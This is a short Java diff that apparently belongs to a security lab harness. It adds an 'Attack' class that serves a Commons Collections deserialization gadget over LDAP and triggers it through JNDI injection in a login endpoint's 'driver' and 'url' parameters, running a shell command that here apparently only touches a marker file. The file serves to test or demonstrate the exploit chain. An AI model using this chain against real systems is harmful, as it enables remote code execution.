@@ -1,0 +1,12 @@
+import whorl.lab.attack.Attacker;
+import whorl.lab.attack.Collections3;
+import whorl.lab.attack.Ldap;
+
+public class Attack {
+  public static void main(String[] args) throws Exception {
+    Ldap.serveObject(Collections3.command("sh", "-c", Attacker.touch()));
+    Attacker.get(
+        "/login?driver=javax.naming.InitialContext&url=" + Attacker.encode(Ldap.URL + "/a"));
+    Attacker.done();
+  }
+}
